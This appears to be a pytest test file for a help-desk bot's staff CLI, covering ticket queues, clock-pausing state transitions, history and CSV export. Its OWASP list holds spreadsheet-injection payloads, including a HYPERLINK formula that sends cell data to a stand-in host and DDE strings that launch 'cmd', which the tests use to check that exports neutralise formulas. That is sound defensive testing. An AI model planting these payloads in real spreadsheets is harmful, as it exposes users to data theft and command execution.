"""`pte-bot staff`: queue, show, transitions with the clock pause, CSV, backup."""

from __future__ import annotations

import argparse
import csv
import io
import sqlite3
from pathlib import Path

import pytest

from bot.domain.workflow import TransitionError
from bot.settings import Settings
from bot.staff_cli import (
    FORMULA_STARTS,
    AnswerMissing,
    TicketNotFound,
    run,
    spreadsheet_safe,
)
from tests.driver import Driver, FakeClock, MemoryMailer
from tests.walks import file_request, to_attachments, to_step, who_asks


def args(action: str, **extra: object) -> argparse.Namespace:
    return argparse.Namespace(action=action, **extra)


async def shell(user: Driver, action: str, **extra: object) -> str:
    out = io.StringIO()
    await run(user.app, args(action, **extra), out)
    return out.getvalue()


async def registered(user: Driver, mailer: MemoryMailer) -> None:
    await to_step(user, mailer, "resumen")
    await user.tap("btn.confirm_send")


async def set_state(user: Driver, state: str, message: str | None = None) -> str:
    printed = await shell(
        user, "set-state", number="PTE-2026-000001", state=state, message=message, by="ana"
    )
    await user.worker.pick_up()
    await user.worker.drain()
    return printed


async def test_queue_and_show(user: Driver, mailer: MemoryMailer) -> None:
    await registered(user, mailer)
    queue = await shell(user, "list")
    assert (
        "PTE-2026-000001 · accesos · Registrado · vence 11/12/2026 (quedan 5 días hábiles)"
        in queue
    )
    shown = await shell(user, "show", number="PTE-2026-000001")
    assert "Municipalidad de Pérez <Ruiz> & Cía" in shown
    with pytest.raises(TicketNotFound, match="No existe el trámite PTE-2026-000999"):
        await shell(user, "show", number="PTE-2026-000999")


async def test_observed_pauses_the_clock_and_the_officer_is_told(
    user: Driver, mailer: MemoryMailer, clock: FakeClock
) -> None:
    await registered(user, mailer)  # Wed 2 Dec, due Fri 11 Dec
    await set_state(user, "En atención")
    assert user.screen.last.key == "aviso.estado"
    assert user.screen.last.data["state"] == "en_atencion"
    clock.advance(days=1)  # Thu 3 Dec: 4 business days left (4, 7, 10, 11)
    await set_state(user, "Observado", "Falta la firma en la resolución")
    notice = user.screen.last.plain
    assert "pasó a Observado" in notice
    assert "Falta la firma en la resolución" in notice
    clock.advance(days=11)  # Mon 14 Dec: the clock was stopped
    printed = await set_state(user, "En atención")
    assert "Plazo: 18/12/2026" in printed  # 4 business days after Mon 14 Dec
    detail = (await user.send("PTE-2026-000001"))[-1].plain
    assert "Falta la firma en la resolución" in detail  # the help desk's last message


async def test_invalid_transition_is_refused(user: Driver, mailer: MemoryMailer) -> None:
    await registered(user, mailer)
    with pytest.raises(TransitionError):
        await set_state(user, "Cerrado")


async def test_attended_says_accesses_go_by_email(user: Driver, mailer: MemoryMailer) -> None:
    await registered(user, mailer)
    await set_state(user, "En atención")
    await set_state(user, "Atendido")
    assert user.screen.last.key == "aviso.estado"
    assert "nunca llegan por este chat" in user.screen.last.plain  # the terminal's wording


async def test_a_consulta_is_attended_from_the_shell_with_its_answer(
    user: Driver, mailer: MemoryMailer
) -> None:
    """Issue 16, point 2: no answer, no Atendido; the answer reaches the officer's chat."""
    await to_attachments(user)
    await user.tap("btn.done")
    await who_asks(user, mailer)
    await user.tap("btn.confirm_send")
    await set_state(user, "En atención")
    with pytest.raises(AnswerMissing, match="es una consulta: se atiende con su respuesta"):
        await set_state(user, "Atendido")
    printed = await set_state(user, "Atendido", "Ya está corregido: vuelve a intentarlo.")
    assert "En atención → Atendido" in printed
    notice = user.screen.last.plain
    assert "Respuesta de la mesa de ayuda:\nYa está corregido: vuelve a intentarlo." in notice
    assert "accesos" not in notice


async def test_csv_and_backup(user: Driver, mailer: MemoryMailer, tmp_path: Path) -> None:
    await registered(user, mailer)
    await shell(user, "export-csv", file=tmp_path / "t.csv")
    with (tmp_path / "t.csv").open(encoding="utf-8-sig") as handle:
        table = list(csv.reader(handle))
    assert table[0][:3] == ["Trámite", "Tipo", "Estado"]
    assert table[1][0] == "PTE-2026-000001"
    await shell(user, "backup", file=tmp_path / "copy.sqlite3")
    copy = sqlite3.connect(tmp_path / "copy.sqlite3")
    assert copy.execute("SELECT count(*) FROM tickets").fetchone() == (1,)
    copy.close()


# --------------------------------------------------------------------------- issue 16
NUMBER = "PTE-2026-000001"
ROSA = "9001"  # a specialist with a display name (PTEBOT_STAFF_NAMES)
UNNAMED = "9002"  # one without: shown by chat id
OWASP = [
    '=HYPERLINK("http://x/?d="&A1,"Abrir")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return Settings(
        data_dir=tmp_path / "data",
        staff_names="9001=Rosa  Quispe",  # as the environment gives it
        _env_file=None,  # type: ignore[call-arg]
    )


async def specialist(user: Driver, chat_id: str) -> Driver:
    staff = await user.peer(chat_id, staff=True)
    await staff.send("/start")
    await staff.tap("btn.accept")
    return staff


async def take(staff: Driver, number: str = NUMBER) -> None:
    await staff.send(f"/ticket {number}")
    await staff.tap("btn.desk_take")


def test_staff_names_setting_is_parsed() -> None:
    parsed = Settings(
        staff_names="123=Ana Torres; +51 987 654 321=Luis Rojas,",
        _env_file=None,  # type: ignore[call-arg]
    )
    assert parsed.staff_names == {"123": "Ana Torres", "51987654321": "Luis Rojas"}
    with pytest.raises(ValueError, match="chat id"):
        Settings(staff_names="Ana Torres", _env_file=None)  # type: ignore[call-arg]


def test_show_of_a_missing_ticket_exits_non_zero_with_the_message_on_stderr(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from bot.cli import main

    monkeypatch.chdir(tmp_path)  # no .env from the working copy
    monkeypatch.setenv("PTEBOT_DATA_DIR", str(tmp_path / "data"))
    assert main(["staff", "show", "pte-2026-999"]) == 1
    printed = capsys.readouterr()
    assert printed.out == ""
    assert "No existe el trámite PTE-2026-000999." in printed.err


async def test_show_reads_the_number_as_the_chat_does(user: Driver, mailer: MemoryMailer) -> None:
    await registered(user, mailer)
    for typed in ("pte-2026-1", "PTE 2026 000001", " pte2026-01 "):
        assert f"🗂 {NUMBER} · Solicitud de accesos" in await shell(user, "show", number=typed)
    printed = await shell(
        user, "set-state", number="pte-2026-1", state="En atención", message=None, by="ana"
    )
    assert printed.startswith(f"{NUMBER}: Registrado → En atención")


async def test_show_names_the_specialist_and_who_acted(
    user: Driver, mailer: MemoryMailer, clock: FakeClock
) -> None:
    await registered(user, mailer)  # 15:00 UTC: 10:00 in Lima
    rosa = await specialist(user, ROSA)
    await take(rosa)
    shown = await shell(user, "show", number=NUMBER)
    assert "Estado: En atención · a cargo de Rosa Quispe" in shown
    assert "otro especialista" not in shown
    clock.advance(hours=1)
    await set_state(user, "Observado", "Falta la firma")  # --by ana
    clock.advance(hours=1)
    other = await specialist(user, UNNAMED)
    await other.send(f"/ticket {NUMBER}")
    await other.tap("btn.desk_take")
    await other.tap("btn.desk_reply")
    await other.send("¿Puede reenviar la resolución firmada?")
    shown = await shell(user, "show", number=NUMBER)
    assert f"a cargo de {UNNAMED}" in shown  # no name configured: the chat id
    history = shown[shown.index("Historial:") :].splitlines()[1:]
    assert history == [
        "• 02/12/2026 10:00 — Registrado (responsable)",
        "• 02/12/2026 10:00 — En atención (Rosa Quispe)",
        "• 02/12/2026 11:00 — Observado (ana): Falta la firma",
        f"• 02/12/2026 12:00 — {UNNAMED} lo tomó",
        f"• 02/12/2026 12:00 — {UNNAMED} (mesa): «¿Puede reenviar la resolución firmada?»",
    ]


async def export(user: Driver, tmp_path: Path) -> list[list[str]]:
    await shell(user, "export-csv", file=tmp_path / "t.csv")
    raw = (tmp_path / "t.csv").read_text(encoding="utf-8-sig")
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    assert all(line.startswith('"') for line in raw.split("\r\n") if line)  # all quoted
    return table


async def test_csv_has_who_filed_who_works_it_and_how_it_ended(
    user: Driver, mailer: MemoryMailer, clock: FakeClock, tmp_path: Path
) -> None:
    await registered(user, mailer)  # Wed 2 Dec 10:00 Lima
    await take(await specialist(user, ROSA))
    for state in ("Observado", "En atención", "Observado", "En atención", "Atendido"):
        await set_state(user, state, "Falta la firma" if state == "Observado" else None)
    clock.advance(days=1, hours=6)  # Thu 3 Dec 16:00 Lima
    await set_state(user, "Cerrado")
    # A profile change and a consulta by the same officer: no responsible of their own.
    await user.send("/perfiles")
    await user.tap("btn.entity_same")
    await user.tap(choice="visitas")
    await user.tap("btn.continue")
    await user.tap("btn.action_baja")
    await user.send("La persona dejó la entidad el mes pasado")
    await user.tap("btn.confirm_send")
    await user.tap("menu.consulta")
    await user.tap("btn.entity_usual")
    await user.tap(choice="presupuesto")
    await user.send("No puedo publicar el presupuesto: el portal muestra un error 500.")
    await user.tap("btn.done")
    await user.tap("btn.yes")  # ¿Sigues siendo Ana María Pérez Ruiz…? Her email is proved already
    await user.tap("btn.confirm_send")

    header, *rows = await export(user, tmp_path)
    assert header == [
        "Trámite", "Tipo", "Estado", "RUC", "Entidad", "Registrado", "Vence", "Responsable",
        "Correo del responsable", "Celular del responsable", "Asignado a", "Veces observado",
        "Cerrado el", "Alertas", "N.° en la mesa de ayuda",
    ]  # fmt: skip
    request, change, question = (dict(zip(header, row, strict=True)) for row in rows)
    assert request["Registrado"] == "02/12/2026 10:00"  # Lima, not 15:00 UTC
    assert request["Vence"] == "11/12/2026"
    assert request["Responsable"] == "Ana María Pérez Ruiz"
    assert request["Correo del responsable"] == "ana.perez@munisjl.gob.pe"
    assert request["Celular del responsable"] == "'+51987654321"  # OWASP: starts with +
    assert request["Asignado a"] == "Rosa Quispe"
    assert request["Veces observado"] == "2"
    assert request["Cerrado el"] == "03/12/2026 16:00"
    for filed in (change, question):
        assert filed["Responsable"] == "Ana María Pérez Ruiz"
        assert filed["Correo del responsable"] == "ana.perez@munisjl.gob.pe"
        assert (filed["Asignado a"], filed["Veces observado"], filed["Cerrado el"]) == (
            "",
            "0",
            "",
        )
    assert (change["Tipo"], question["Tipo"]) == ("perfiles", "consulta")
    assert question["Registrado"] == "03/12/2026 16:00"


@pytest.mark.parametrize("payload", OWASP)
def test_spreadsheet_safe_quotes_every_owasp_payload(payload: str) -> None:
    assert spreadsheet_safe(payload) == "'" + payload
    assert spreadsheet_safe("Municipalidad =1+1") == "Municipalidad =1+1"


async def test_csv_never_starts_a_cell_with_a_formula(
    user: Driver, mailer: MemoryMailer, tmp_path: Path
) -> None:
    entity, _, _, cargo = OWASP[:4]
    # Names take only letters and signs of names, but may still start with a "-".
    nombres, apellidos = "-Ana María", "-Pérez Ruiz"
    await file_request(user, mailer, entity, (nombres, apellidos, cargo))
    # The three payloads the chat refuses (no letters) straight into the database.
    async with user.app.store.reading() as conn:
        for index, payload in enumerate(OWASP[4:], start=2):
            await conn.execute(
                "INSERT INTO tickets (number, type, state, entity_id, entity_name, person_id,"
                " identity_id, registered_at, received_on, due_on, data, updated_at)"
                " SELECT ?, type, state, entity_id, ?, person_id, identity_id, registered_at,"
                " received_on, due_on, data, updated_at FROM tickets WHERE id = 1",
                (f"PTE-2026-00000{index}", payload),
            )
        await conn.commit()
    _, first, *others = await export(user, tmp_path)
    assert first[4] == "'" + entity
    assert first[7] == f"'{nombres} {apellidos}"
    assert [row[4] for row in others] == ["'" + p for p in OWASP[4:]]
    for row in (first, *others):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
